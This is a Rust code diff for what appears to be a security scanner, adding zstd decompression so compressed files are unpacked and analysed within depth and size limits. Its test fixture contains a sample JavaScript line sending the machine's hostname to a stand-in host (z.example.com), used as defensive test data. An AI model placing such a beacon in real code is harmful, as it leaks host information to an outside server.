@@ -120,6 +120,9 @@ fn open_into<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, opts: &ScanOpti
         out.coverage.identical.push(Identical { path: path.to_string(), same_as: first, bytes: bytes.len() as u64 });
         return;
     }
+    if bytes.starts_with(ZSTD_MAGIC) {
+        return open_zstd(path, &bytes, depth, opts, seen, budget, out);
+    }
     if is_executable(&bytes) {
         return open_executable(path, bytes, depth, opts, seen, budget, out);
     }
@@ -134,6 +137,31 @@ fn open_into<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, opts: &ScanOpti
         open_base64_archives(path, &bytes, depth, opts, seen, budget, out);
     }
     out.inputs.push(Input { path: path.to_string(), content: Content::File(bytes) });
+}
+
+/// A zstd frame starts so.
+const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
+
+/// A zstd-compressed file (a compressed asset, a `.tar.zst`): its content, opened in turn
+/// under the same name.
+fn open_zstd<'a>(path: &str, bytes: &[u8], depth: usize, opts: &ScanOptions, seen: &SeenFiles, budget: &Budget, out: &mut Opened<'a>) {
+    if depth >= MAX_DEPTH {
+        out.coverage.add_unanalysed(path, bytes.len() as u64, format!("zstd data nested more than {MAX_DEPTH} containers deep"));
+        return;
+    }
+    let cap = budget.limits(opts).max_total_bytes.min(opts.limits.max_file_bytes);
+    let mut data = Vec::new();
+    let read = ruzstd::decoding::StreamingDecoder::new(bytes).map_err(|e| e.to_string()).and_then(|d| d.take(cap.saturating_add(1)).read_to_end(&mut data).map_err(|e| e.to_string()));
+    match read {
+        Err(e) => out.coverage.add_unanalysed(path, bytes.len() as u64, format!("zstd data that could not be decompressed: {e}")),
+        Ok(_) if data.len() as u64 > cap || !budget.take(data.len() as u64, 1) => {
+            out.coverage.add_unanalysed(path, bytes.len() as u64, "zstd data over the target's limits (--max-archive-bytes, --max-file-bytes)")
+        }
+        Ok(_) => {
+            out.coverage.containers.push(Container { path: path.to_string(), format: "zstd".into(), files: 1 });
+            open_into(path, Cow::Owned(data), depth + 1, opts, seen, budget, out);
+        }
+    }
 }
 
 fn is_wasm(bytes: &[u8]) -> bool {
@@ -217,7 +245,7 @@ fn open_executable<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, opts: &Sc
 
 /// A payload an executable carries: code by name or magic, else not code (images, text).
 fn open_payload<'a>(path: &str, bytes: Cow<'a, [u8]>, depth: usize, opts: &ScanOptions, seen: &SeenFiles, budget: &Budget, out: &mut Opened<'a>) {
-    let code = is_executable(&bytes) || is_wasm(&bytes) || telltale_ingest::container_format(&bytes).is_some() || crate::analyse::kind_of(path).is_some();
+    let code = is_executable(&bytes) || is_wasm(&bytes) || bytes.starts_with(ZSTD_MAGIC) || telltale_ingest::container_format(&bytes).is_some() || crate::analyse::kind_of(path).is_some();
     if code {
         open_into(path, bytes, depth, opts, seen, budget, out);
     }
@@ -394,6 +422,26 @@ mod tests {
         assert!(o.inputs.is_empty());
         assert_eq!(o.coverage.unanalysed.len(), 1, "{:?}", o.coverage.unanalysed);
         assert!(o.coverage.unanalysed[0].why.contains("nested more than"));
+    }
+
+    #[test]
+    fn zstd_data_is_opened_under_its_own_name() {
+        // A zstd frame of one raw block holding the text (level-0 framing, as encoders write
+        // for incompressible input).
+        let text = b"require('https').get('https://z.example.com/?h=' + require('os').hostname())";
+        let mut frame = ZSTD_MAGIC.to_vec();
+        frame.push(0x20); // single segment, content size in one byte
+        frame.push(text.len() as u8);
+        let header = (text.len() as u32) << 3 | 1; // last block, raw
+        frame.extend_from_slice(&header.to_le_bytes()[..3]);
+        frame.extend_from_slice(text);
+        let opts = ScanOptions::default();
+        let o = open("package/claude › /$bunfs/root/x.min.js", &frame, &opts, &SeenFiles::default(), &Budget::after(&opts, 0, 0));
+        assert_eq!(o.inputs.len(), 1);
+        assert!(matches!(&o.inputs[0].content, Content::File(b) if b.as_ref() == text));
+        assert_eq!(o.coverage.containers[0].format, "zstd");
+        let broken = open("x.js", &frame[..9], &opts, &SeenFiles::default(), &Budget::after(&opts, 0, 0));
+        assert!(broken.inputs.is_empty() && broken.coverage.unanalysed[0].why.contains("zstd"), "{:?}", broken.coverage.unanalysed);
     }
 
     #[test]
